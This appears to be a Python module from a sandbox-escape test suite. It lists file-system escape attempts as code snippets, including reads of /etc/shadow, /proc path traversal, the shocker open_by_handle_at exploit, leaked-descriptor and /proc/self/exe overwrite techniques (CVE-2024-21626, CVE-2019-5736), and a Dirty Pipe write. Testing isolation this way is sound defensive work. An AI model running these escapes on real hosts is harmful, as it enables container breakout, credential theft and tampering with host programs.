"""Reading and changing files of the host."""

from __future__ import annotations

from typing import Final

from dualtrack.testing.escapes.attempt import Attempt, Kind, Proof, said_so
from dualtrack.testing.escapes.proofs import leaked, marked


def _attempt(name: str, tries: str, source: str, proof: Proof = said_so, *, root: bool = False) -> Attempt:
    return Attempt(name, Kind.FILES, tries, source, proof, root=root)


def _reads(name: str, tries: str, secret: str) -> Attempt:
    return _attempt(name, tries, f"DETAIL = read(HOST['files'][{secret!r}])", leaked(secret))


_BUSY: Final = (
    "def write(path):\n"
    "  try: os.close(os.open(path, os.O_WRONLY))\n"
    "  except OSError as error:\n"
    "    if error.errno != errno.ETXTBSY: raise\n"
    "  return 'writable, once nobody runs it'\n"
)
"""A program that runs can't be written to at once, but one that may be written to waits for its end."""

FILES: Final = (
    _reads("read-world-readable", "read a file of the host that every user may read", "world"),
    _reads("read-same-user", "read a private file of the user that sandboxes run as", "user"),
    _reads("read-host-tmp", "read a file in the host's /tmp", "tmp"),
    _reads("read-host-shm", "read a file in the host's /dev/shm", "shared_memory"),
    _reads("read-other-session", "read a report in the workspace of another session", "other_session"),
    Attempt(
        "read-root-only",
        Kind.FILES,
        "read a file that only root may read",
        "DETAIL = read(HOST['files']['root'])",
        leaked("root"),
        root=True,
    ),
    _attempt("read-shadow", "read the password file", "open('/etc/shadow').read(1)", root=True),
    _attempt(
        "read-through-init",
        "reach the host's files through the root directory of process 1 or of the parent",
        "DETAIL = first_that_works([lambda p=p, f=f: read(f'/proc/{p}/root' + HOST['files'][f]) for f in ('world', 'user')"
        " for p in ('1', os.getppid(), 'self')])",
        leaked("world", "user"),
    ),
    _attempt(
        "read-through-dotdot",
        "climb out of the working directory by its parents",
        "DETAIL = read('/proc/self/cwd/' + '../' * 40 + HOST['files']['world'])",
        leaked("world"),
    ),
    _attempt(
        "read-through-link",
        "follow a symbolic link out of the workspace",
        "os.symlink(HOST['files']['world'], NAME)\ntry: DETAIL = read(NAME)\nfinally: os.unlink(NAME)",
        leaked("world"),
    ),
    _attempt(
        "leaked-working-directory",
        "use a directory of the host that is left open, as in CVE-2024-21626",
        "def through(fd):\n"
        "  os.fchdir(fd)\n"
        "  return read('../world.txt')\n"
        "DETAIL = first_that_works([lambda fd=fd: through(fd) for fd in range(3, 256)])",
        leaked("world"),
    ),
    _attempt(
        "leaked-file-descriptor",
        "read a file of the host that is left open",
        "for fd in range(3, 256):\n"
        "  try: print(os.pread(fd, 4096, 0).decode(errors='replace'))\n"
        "  except OSError: pass\n"
        "DETAIL = 'read inherited descriptors'",
        leaked("descriptor"),
    ),
    _attempt(
        "open-by-handle",
        "open the root directory by its inode number, past all mounts (the shocker exploit)",
        "import struct\n"
        "handle = ctypes.create_string_buffer(struct.pack('<IiII', 8, 1, 2, 0))\n"
        "fd = first_that_works([lambda p=p: call('open_by_handle_at', os.open(p, os.O_RDONLY), handle, os.O_RDONLY)"
        " for p in ('/etc/hostname', '/etc/passwd', WORKSPACE)])\n"
        "DETAIL = os.listdir(fd)[:3]",
        root=True,
    ),
    _attempt(
        "file-handle",
        "ask for the handle of a file, the first half of the shocker exploit",
        "DETAIL = heard('name_to_handle_at', -100, b'/usr', buffer(128), buffer(8), 0)",
    ),
    _attempt(
        "hard-link",
        "bring a file of the host into the workspace as a hard link",
        "try: os.link(HOST['files']['user'], NAME)\n"
        "except FileNotFoundError: raise Refused('not there') from None\n"
        "DETAIL = read(NAME)\nos.unlink(NAME)",
        leaked("user"),
    ),
    _attempt("write-host-file", "write to a file of the host that everybody may write to", "open(HOST['canary'], 'a').write(NAME)", marked),
    _attempt("create-host-file", "create a file outside of the workspace", "open(HOST['drop'] + '/' + NAME, 'w').close()", marked),
    _attempt(
        "truncate-host-file",
        "empty a file of the host without opening it (early Landlock did not cover it)",
        "before = os.stat(HOST['files']['tmp']).st_size\nos.truncate(HOST['files']['tmp'], before)",
    ),
    _attempt(
        "rename-host-file",
        "move a file of the host",
        "open(HOST['drop'] + '/x', 'w').close()\nos.rename(HOST['drop'] + '/x', HOST['drop'] + '/' + NAME)",
        marked,
    ),
    _attempt(
        "change-host-mode",
        "change the mode, owner or times of a host's file (Landlock does not cover it)",
        "status = os.stat(HOST['files']['user'])\nos.chmod(HOST['files']['user'], status.st_mode & 0o777)",
    ),
    _attempt(
        "see-host-names",
        "learn names, sizes and times of the host's files without reading them",
        "DETAIL = os.stat(HOST['files']['world']).st_size",
    ),
    _attempt("list-host-home", "list the home directories", "DETAIL = os.listdir('/root') + os.listdir('/home')[:3]", root=True),
    _attempt(
        "write-system",
        "write to directories of the system",
        "def make(d):\n"
        "  path = f'{d}/{NAME}'\n"
        "  os.close(os.open(path, os.O_CREAT | os.O_WRONLY))\n"
        "  os.unlink(path)\n"
        "  return d\n"
        "DETAIL = first_that_works([lambda d=d: make(d) for d in ('/', '/usr', '/usr/bin', '/etc', '/opt', '/var', '/run')])",
        root=True,
    ),
    _attempt(
        "write-own-program",
        "overwrite the program it runs from, as in CVE-2019-5736",
        _BUSY + "DETAIL = write('/proc/self/exe' if os.path.exists('/proc/self/exe') else '/usr/bin/env')",
        root=True,
    ),
    _attempt(
        "write-launcher-program",
        "overwrite the program that started the sandbox, through /proc/1/exe, as in CVE-2019-5736",
        _BUSY + "DETAIL = first_that_works([lambda p=p: write(f'/proc/{p}/exe') for p in (1, os.getppid())])",
        root=True,
    ),
    _attempt(
        "dirty-pipe",
        "change a read-only file through a pipe's page cache (CVE-2022-0847)",
        "import fcntl\n"
        "open(NAME, 'w').write('A' * 64)\n"
        "os.chmod(NAME, 0o444)\n"
        "r, w = os.pipe()\n"
        "size = fcntl.fcntl(w, 1032)\n"  # F_GETPIPE_SZ
        "os.write(w, b'x' * size)\n"
        "os.read(r, size)\n"
        "os.splice(os.open(NAME, os.O_RDONLY), w, 1, offset_src=3)\n"
        "os.write(w, b'~~~')\n"
        "if open(NAME).read()[4:7] != '~~~': raise Refused('this kernel is mended')",
    ),
    _attempt(
        "name-of-workspace",
        "learn where the workspace lies on the host, from the table of mounts or the working directory",
        "try: mounts = [line.split() for line in open('/proc/self/mountinfo')]\n"
        "except OSError: mounts = []\n"
        "roots = [mount[3] for mount in mounts if mount[4] == '/workspace' and mount[3] not in ('/', '/workspace')]\n"
        "if not roots and os.getcwd() == '/workspace': raise Refused('it is not told')\n"
        "DETAIL = 'its path on the host'",
    ),
)
